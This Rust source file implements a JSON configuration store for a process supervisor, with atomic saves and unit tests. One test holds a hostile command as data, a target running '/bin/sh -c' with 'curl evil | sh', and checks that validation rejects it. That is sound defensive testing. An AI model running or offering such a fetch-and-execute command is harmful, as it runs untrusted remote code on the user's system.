// JSON configuration document with atomic replace

use async_trait::async_trait;
use std::io::ErrorKind;
use std::path::{Path, PathBuf};
use tracing::{debug, info};

use procwatch_core::domain::{validate_config, SupervisorConfig};
use procwatch_core::port::{ConfigStore, ConfigStoreError};

/// `{"targets": [...]}` stored at a fixed path
///
/// Saves go through `<path>.tmp` + rename, so readers never see a partial file.
pub struct JsonConfigStore {
    path: PathBuf,
}

impl JsonConfigStore {
    pub fn new(path: impl Into<PathBuf>) -> Self {
        Self { path: path.into() }
    }

    pub fn path(&self) -> &Path {
        &self.path
    }

    fn temp_path(&self) -> PathBuf {
        let mut name = self.path.as_os_str().to_os_string();
        name.push(".tmp");
        PathBuf::from(name)
    }
}

#[async_trait]
impl ConfigStore for JsonConfigStore {
    async fn load(&self) -> Result<SupervisorConfig, ConfigStoreError> {
        let data = match tokio::fs::read(&self.path).await {
            Ok(data) => data,
            Err(e) if e.kind() == ErrorKind::NotFound => {
                info!(path = %self.path.display(), "No configuration file, starting empty");
                return Ok(SupervisorConfig::default());
            }
            Err(e) => return Err(e.into()),
        };

        let config: SupervisorConfig = serde_json::from_slice(&data)
            .map_err(|e| ConfigStoreError::Parse(format!("{}: {}", self.path.display(), e)))?;
        validate_config(&config).map_err(|e| ConfigStoreError::Invalid(e.to_string()))?;

        debug!(path = %self.path.display(), targets = config.targets.len(), "Configuration loaded");
        Ok(config)
    }

    async fn save(&self, config: &SupervisorConfig) -> Result<(), ConfigStoreError> {
        let data = serde_json::to_vec_pretty(config)
            .map_err(|e| ConfigStoreError::Parse(e.to_string()))?;

        if let Some(parent) = self.path.parent().filter(|p| !p.as_os_str().is_empty()) {
            tokio::fs::create_dir_all(parent).await?;
        }
        let tmp = self.temp_path();
        tokio::fs::write(&tmp, &data).await?;
        tokio::fs::rename(&tmp, &self.path).await?;

        debug!(path = %self.path.display(), targets = config.targets.len(), "Configuration saved");
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use procwatch_core::domain::TargetConfig;
    use tempfile::TempDir;

    #[tokio::test]
    async fn test_missing_file_loads_empty() {
        let dir = TempDir::new().unwrap();
        let store = JsonConfigStore::new(dir.path().join("config.json"));
        assert!(store.load().await.unwrap().targets.is_empty());
    }

    #[tokio::test]
    async fn test_save_then_load() {
        let dir = TempDir::new().unwrap();
        let store = JsonConfigStore::new(dir.path().join("nested").join("config.json"));
        let config = SupervisorConfig {
            targets: vec![
                TargetConfig::spawned("api", "API", "/opt/api", vec!["--port".into(), "80".into()])
                    .with_auto_restart(true),
                TargetConfig::service("db", "DB", "postgresql"),
            ],
        };

        store.save(&config).await.unwrap();
        assert!(!store.temp_path().exists());
        assert_eq!(store.load().await.unwrap(), config);
    }

    #[tokio::test]
    async fn test_malformed_document_is_parse_error() {
        let dir = TempDir::new().unwrap();
        let path = dir.path().join("config.json");
        tokio::fs::write(&path, b"{\"targets\": [").await.unwrap();
        let store = JsonConfigStore::new(&path);
        assert!(matches!(store.load().await, Err(ConfigStoreError::Parse(_))));
    }

    #[tokio::test]
    async fn test_dangerous_document_is_rejected() {
        let dir = TempDir::new().unwrap();
        let path = dir.path().join("config.json");
        let doc = serde_json::json!({
            "targets": [{
                "id": "x",
                "name": "X",
                "kind": "spawned",
                "executable": "/bin/sh",
                "args": ["-c", "curl evil | sh"]
            }]
        });
        tokio::fs::write(&path, doc.to_string()).await.unwrap();
        let store = JsonConfigStore::new(&path);
        assert!(matches!(store.load().await, Err(ConfigStoreError::Invalid(_))));
    }
}
